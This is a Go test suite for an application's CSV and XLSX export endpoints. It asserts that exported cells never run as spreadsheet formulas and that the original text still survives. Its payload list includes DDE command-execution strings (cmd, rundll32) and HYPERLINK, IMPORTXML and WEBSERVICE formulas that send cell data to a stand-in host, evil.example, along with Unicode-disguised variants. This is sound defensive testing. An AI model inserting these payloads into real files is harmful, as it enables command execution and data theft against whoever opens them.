package edge

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"io"
	"regexp"
	"slices"
	"strings"
	"testing"
	"unicode"

	"github.com/xuri/excelize/v2"
	"golang.org/x/text/unicode/norm"

	"erba/feature"
	"erba/platform/apptest"
	"erba/platform/export"
)

// formulas are texts that a spreadsheet would run, look up or send away.
var formulas = []string{
	"=1+1", "=1+1\" ", "+1+1", "-1+1", "@SUM(1,1)", "=cmd|'/C calc'!A0", "+cmd|'/C calc'!A0", "-cmd|'/C calc'!A0", "@cmd|'/C calc'!A0",
	`=HYPERLINK("http://evil.example?x="&A1,"open")`, `=IMPORTXML("http://evil.example","//a")`, `=WEBSERVICE("http://evil.example")`,
	`=DDE("cmd";"/C calc";"x")`, "=2+5+cmd|' /C calc'!A0", `=rundll32|'URL.dll,OpenURL calc.exe'!A`, "=-1", "=+1", "=@A1", "--1", "+-1",
	" =1+1", "  \t=1+1", "\u00a0=1+1", "\u3000=1+1", "\u2003=1+1", "\u200b=1+1", "\ufeff=1+1", "\u200e=1+1", "\u00ad=1+1", "\n=1+1", "\r=1+1", "\r\n=1+1", "\t=1+1", "\v=1+1",
	"＝1+1", "＋1+1", "－1+1", "＠SUM(1,1)", "﹦1+1", "﹢1", "﹣1", "﹫A1", "⁼1+1", "₌1", "⁺1", "⁻1", "\u3000＝1+1", "−1+1",
	"'=1+1", `"=1+1"`, `=1+1;=2+2`, "=甲+乙", "=1+1,=2+2",
	"华为技术有限公司", "a=b", "5-3", "x@example.com", "(-1)", "A+级",
}

// Whatever stands in a text, no exported cell is a formula, and its reader still reads the text.
func TestNoExportedCellIsAFormula(t *testing.T) {
	apptest.Whole(t, feature.Product, func(s *apptest.Stage) {
		s.Uncapped()
		imported := trade(s)
		account, downloads := crowded(s), 0
		for _, o := range operations(s) {
			if o.Gives != "application/octet-stream" || len(mays(s, o)) == 0 {
				continue
			}
			downloads++
			id := imported
			if strings.HasPrefix(o.Path, "/api/handovers") || strings.HasPrefix(o.Path, "/api/contacts") || strings.HasPrefix(o.Path, "/api/coverage") {
				id = account // there is one that is called so
			}
			for _, format := range formats(o) {
				read(s, o, strings.NewReplacer("{id}", id, "{account}", account, "{opportunity}", account, "{list}", account, "{file}", account, "{fee}", account, "{paper}", account).Replace(o.Path)+"?"+format)
			}
		}
		if downloads < 3 {
			s.Errorf("only %d exports", downloads)
		}
	})
}

// formats are the questions that ask for each kind of file.
func formats(o apptest.Operation) (all []string) {
	for _, p := range o.Params {
		if p.Name == "format" {
			for _, kind := range p.Schema.Enum {
				all = append(all, "format="+fmt.Sprint(kind))
			}
		}
	}
	if all == nil {
		return []string{""}
	}
	return all
}

// marks are the questions that an export wants answered; together they ask for everything.
func marks(o apptest.Operation) []string {
	for _, p := range o.Params {
		if p.Name == "from" && p.Required {
			return []string{"&model=abc&from=2026-04-30&to=2026-05-31"}
		}
		if p.Name == "name" {
			return []string{"&name=contribution"} // whom it concerns is everybody who buys
		}
		if p.Name == "by" && slices.Contains(p.Schema.Enum, any("family")) {
			return []string{"&by=family"} // companies are called like accounts
		}
		if p.Name == "list" && p.In == "query" {
			return lists(p.Schema.Enum)
		}
		if p.Name == "period" && strings.HasPrefix(o.Path, "/api/forecast") {
			return []string{"&period=2026-Q1"}
		}
		if p.Name == "mark" {
			return []string{"&model=abc&mark=A&all=true", "&model=abc&mark=B&all=true", "&model=abc&mark=C&all=true"}
		}
	}
	return []string{""}
}

// lists are the questions for each of some lists.
func lists(names []any) (all []string) {
	for _, name := range names {
		all = append(all, fmt.Sprint("&list=", name))
	}
	return all
}

// read asks for a file as everybody who may and looks at every cell.
func read(s *apptest.Stage, o apptest.Operation, path string) {
	given := false
	defer func() {
		if !given && !slices.ContainsFunc(unmade, func(start string) bool { return strings.HasPrefix(path, start) }) {
			s.Errorf("%s: nobody is given it", path)
		}
	}()
	for _, role := range mays(s, o) {
		var all []string
		for _, part := range marks(o) {
			w := do(s, role, "GET", path+part, "")
			if w.Code == 404 {
				continue // not his
			}
			given = true
			if name := w.Header().Get("Content-Disposition"); w.Code != 200 || !strings.HasPrefix(name, "attachment") {
				s.Errorf("%s as %s: %d %s %s", path, role, w.Code, name, w.Body)
				continue
			}
			if !slices.Contains([]string{export.Types["csv"], export.Types["xlsx"]}, w.Header().Get("Content-Type")) {
				continue // a page or a package, which no spreadsheet opens
			}
			cells, problems := cellsOf(w.Body.Bytes())
			for _, p := range problems {
				s.Errorf("%s as %s: %s", path, role, p)
			}
			all = append(all, cells...)
		}
		if all != nil && (role == "director" || role == "operations") && !strings.HasPrefix(path, "/api/audit") && !slices.ContainsFunc(wordless, func(start string) bool { return strings.HasPrefix(path, start) }) {
			readable(s, path, all)
		}
	}
}

// wordless are exports in which these texts do not stand: figures alone under words
// of ours, targets of people, and one of what accounts would buy again, who here buy once;
// its feature tries it. Nobody here costs more than he brings, and product lines are not made of these texts.
var wordless = []string{"/api/indicators/export", "/api/targets/export", "/api/latent/export", "/api/worth/lines/export", "/api/losses/export"}

// unmade are exports of things that take more to make than a row, and that nobody makes here: their
// features' own tests read their files. What else can be taken along, somebody must be given.
var unmade = []string{"/api/offers/", "/api/plans/", "/api/privacy/requests/", "/api/segments/", "/api/worth/steps/"}

// readable wants every text that stands in the file to be there as it was, behind an apostrophe at most.
func readable(s *apptest.Stage, path string, cells []string) {
	for _, f := range formulas {
		want := strings.TrimSpace(f)
		if !slices.ContainsFunc(cells, func(cell string) bool { return strings.Contains(plain(cell), plain(want)) }) {
			s.Errorf("%s: %q is not there", path, f)
		}
	}
}

// plain is a text without what import cleans away: blanks, invisible signs, width.
func plain(text string) string {
	return strings.Map(func(r rune) rune {
		if unicode.IsSpace(r) || unicode.IsControl(r) || unicode.Is(unicode.Cf, r) {
			return -1
		}
		return r
	}, norm.NFKC.String(text))
}

var number = regexp.MustCompile(`^-?[\d,]+(\.\d+)?$`)

// cellsOf reads a file back, as CSV or XLSX, and says which cells would be run.
func cellsOf(file []byte) (cells, problems []string) {
	if bytes.HasPrefix(file, []byte("PK")) {
		return workbookOf(file)
	}
	in := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(file, []byte("\xEF\xBB\xBF"))))
	in.FieldsPerRecord = -1
	for {
		record, err := in.Read()
		if err == io.EOF {
			return cells, problems
		}
		if err != nil {
			return cells, append(problems, err.Error())
		}
		for _, cell := range record {
			if cells = append(cells, cell); runs(cell) && !number.MatchString(cell) {
				problems = append(problems, fmt.Sprintf("a formula: %q", cell))
			}
		}
	}
}

func workbookOf(file []byte) (cells, problems []string) {
	book, err := excelize.OpenReader(bytes.NewReader(file))
	if err != nil {
		return nil, []string{err.Error()}
	}
	for _, sheet := range book.GetSheetList() {
		rows, err := book.GetRows(sheet)
		if err != nil {
			problems = append(problems, err.Error())
		}
		for y, row := range rows {
			for x, cell := range row {
				at, _ := excelize.CoordinatesToCellName(x+1, y+1)
				formula, _ := book.GetCellFormula(sheet, at)
				kind, _ := book.GetCellType(sheet, at)
				written := kind == excelize.CellTypeSharedString || kind == excelize.CellTypeInlineString
				if cells = append(cells, cell); formula != "" || written && runs(cell) {
					problems = append(problems, fmt.Sprintf("a formula in %s: %q %q", at, cell, formula))
				}
			}
		}
	}
	return cells, problems
}

// runs reports whether some spreadsheet would run a text: its first sign that is
// seen, at full or half width, begins a formula.
func runs(text string) bool {
	for _, r := range norm.NFKC.String(text) {
		switch {
		case strings.ContainsRune("=+-@\u2212", r), r == '\t', r == '\r':
			return true
		case !unicode.IsSpace(r) && !unicode.IsControl(r) && !unicode.Is(unicode.Cf, r):
			return false
		}
	}
	return false
}
